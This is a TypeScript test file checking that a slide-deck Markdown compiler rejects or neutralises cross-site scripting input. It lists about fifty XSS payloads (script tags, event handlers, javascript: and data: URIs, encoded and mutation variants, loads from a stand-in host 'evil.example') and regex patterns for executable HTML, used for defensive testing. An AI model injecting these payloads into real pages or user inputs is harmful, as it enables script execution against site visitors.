import { describe, expect, it } from 'vitest';
import { compileDeck } from '../../../src/markdown/compile.ts';
import { DeckError } from '../../../src/markdown/errors.ts';

const FIRST = `---
id: opening
kind: opening
label: 开篇
title: 开篇
minutes: 1
deck:
  title: 测试
---

## 第一页

Note:

讲稿。
`;

/** Hostile HTML and Markdown an author (or a pasted web page) could put in a slide. */
const VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x onerror\n=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">悬停</div>',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="JaVaScRiPt:alert(1)">点我</a>',
  '<a href="  javascript:alert(1)">点我</a>',
  '<a href="java\tscript:alert(1)">点我</a>',
  '<a href="javascript&colon;alert(1)">点我</a>',
  '<a href="&#106;avascript:alert(1)">点我</a>',
  '<a href="vbscript:msgbox(1)">点我</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
  '[点我](javascript:alert(1))',
  '[点我](JAVASCRIPT:alert(1))',
  '![图](javascript:alert(1))',
  '[点我](data:text/html,<script>alert(1)</script>)',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object>',
  '<embed src="evil.swf">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="javascript:alert(1)"><button>提交</button></form>',
  '<button formaction="javascript:alert(1)">提交</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<span style="background:url(javascript:alert(1))">x</span>',
  '<div style="width: expression(alert(1))">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src="x" alt="x"onerror="alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>滚动</marquee>',
  '<a href="#" onclick="alert(1)">点我</a>',
  '<p>未闭合 <img src=x onerror=alert(1)//',
];

/** What must never reach a slide's HTML. */
const EXECUTABLE = [
  /<\s*script/i,
  /<\s*(iframe|object|embed|svg|math|style|link|meta|base|form|template|noscript)\b/i,
  /\son[a-z]+\s*=/i,
  /(javascript|vbscript)\s*:/i,
  /data:text\/html/i,
  /srcdoc/i,
  /formaction/i,
  /expression\s*\(/i,
];

function compileSlide(body: string): { html: string; warnings: string[] } {
  const text = `${FIRST}\n---\n\n## 攻击\n\n${body}\n\nNote:\n\n讲稿。\n`;
  const deck = compileDeck([{ file: 'slides/00-x.md', text }]);
  const slide = deck.parts[0]!.slides[1]!;
  return { html: slide.html, warnings: deck.warnings.map((w) => `${w.file}:${w.line}: ${w.message}`) };
}

describe('compileDeck() against XSS vectors', () => {
  it(`tries at least 30 vectors (${VECTORS.length})`, () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30);
  });

  for (const vector of VECTORS) {
    it(`rejects or neutralises ${JSON.stringify(vector).slice(0, 70)}`, () => {
      let result: { html: string; warnings: string[] } | null = null;
      try {
        result = compileSlide(vector);
      } catch (e) {
        // Rejected: a DeckError with the file and the line of the vector (line 22 of the file).
        expect(e).toBeInstanceOf(DeckError);
        expect((e as DeckError).message).toMatch(/^slides\/00-x\.md:2[0-9]: /);
        return;
      }
      for (const pattern of EXECUTABLE) expect(result.html).not.toMatch(pattern);
      // Markdown that is not HTML is shown as escaped text: harmless, nothing removed.
      const escaped = vector.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
      // Removed rather than rejected: the build says so.
      if (!result.html.includes(vector) && !result.html.includes(escaped)) {
        expect(result.warnings.some((w) => w.includes('allow-list was removed'))).toBe(true);
      }
    });
  }
});
